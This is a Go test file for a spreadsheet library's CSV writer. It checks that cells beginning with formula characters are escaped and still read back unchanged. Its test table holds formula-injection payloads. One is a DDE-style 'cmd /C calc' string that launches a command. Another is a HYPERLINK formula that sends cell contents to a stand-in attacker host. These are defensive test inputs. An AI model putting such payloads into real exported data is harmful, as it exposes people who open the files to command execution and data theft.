package spreadsheet

import (
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode"

	"pgregory.net/rapid"
)

func TestCellsThatAreFormulasBecomeText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "Ana": "Ana", "a=b": "a=b", "O'Neill": "O'Neill", "'quoted'": "'quoted'", "5": "5", "0.25": "0.25", "1.5e-3": "1.5e-3",
		"-5": "-5", "-0.25": "-0.25", "-1e+9": "-1e+9", // numbers stay numbers
		"=1+1": "'=1+1", "+1 555 0100": "'+1 555 0100", "+5": "'+5", "-5+cmd|' /C calc'!A0": "'-5+cmd|' /C calc'!A0", "@SUM(A1)": "'@SUM(A1)", "--5": "'--5", "-": "'-",
		`=HYPERLINK("https://evil.example/?"&A1,"see")`: `'=HYPERLINK("https://evil.example/?"&A1,"see")`,
		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "\tAna": "'\tAna", "\rAna": "'\rAna",
		" =1": "' =1", "\u00a0=1": "'\u00a0=1", "\u200b=1": "'\u200b=1", "\ufeff=1": "'\ufeff=1", "\u202e=1": "'\u202e=1", "\x00=1": "'\x00=1", `"=1`: `'"=1`,
		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM", "−1": "'−1",
		"Ana;=1": "Ana;'=1", "Ana\t@SUM": "Ana\t'@SUM", "Ana\n=1": "Ana\n'=1", "Ana|=1": "Ana|'=1", // another separator ends the cell
		"'=1": "''=1", "''=1": "'''=1", // so that it can be read again
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q and not %q", in, got, want)
		}
		if got := Plain(Cell(in)); got != in {
			t.Errorf("%q is read again as %q", in, got)
		}
	}
}

// Whatever is written, no spreadsheet finds a formula, and whoever reads it again has what was written.
func TestNothingThatIsWrittenIsAFormula(t *testing.T) {
	t.Parallel()
	signs := []rune("=+-@＝＋－＠'\";,|\t\r\n \u00a0\u200b\u202e\ufeff\x00aA1.e")
	rapid.Check(t, func(t *rapid.T) {
		row := rapid.SliceOfN(rapid.OneOf(rapid.StringOf(rapid.SampledFrom(signs)), rapid.String()), 2, 6).Draw(t, "row")
		var text strings.Builder
		w := NewWriter(&text)
		w.Write(row...)
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		read, err := csv.NewReader(strings.NewReader(text.String())).ReadAll()
		if err != nil || len(read) != 1 {
			t.Fatalf("%q cannot be read: %v", text.String(), err)
		}
		for i, cell := range read[0] {
			// encoding/csv reads a line's end as \n.
			if got, want := Plain(cell), strings.ReplaceAll(row[i], "\r\n", "\n"); got != want && !strings.Contains(row[i], "\r\n") {
				t.Fatalf("%q is read again as %q", want, got)
			}
		}
		for _, comma := range []string{",", ";", "\t", "|"} {
			for _, cell := range row {
				for part := range strings.FieldsFuncSeq(Cell(cell), func(r rune) bool { return r == '\n' || r == '\r' || comma != "," && strings.ContainsRune(comma, r) }) {
					seen := strings.TrimLeftFunc(part, func(r rune) bool { return !unicode.IsGraphic(r) || unicode.IsSpace(r) })
					if seen != "" && strings.ContainsRune("=+@＝＋＠－", []rune(seen)[0]) {
						t.Fatalf("with %q %q is a formula", comma, part)
					}
					if rest, minus := strings.CutPrefix(seen, "-"); minus && (rest == "" || strings.ContainsAny(rest, "()|!@=\"'")) {
						t.Fatalf("with %q %q is a formula", comma, part)
					}
				}
			}
		}
	})
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("full") }

func TestWhatCannotBeWrittenIsTold(t *testing.T) {
	t.Parallel()
	w := NewWriter(full{})
	w.Write(slices.Repeat([]string{"x"}, 5000)...)
	if w.Flush() == nil {
		t.Error("nothing is told")
	}
}
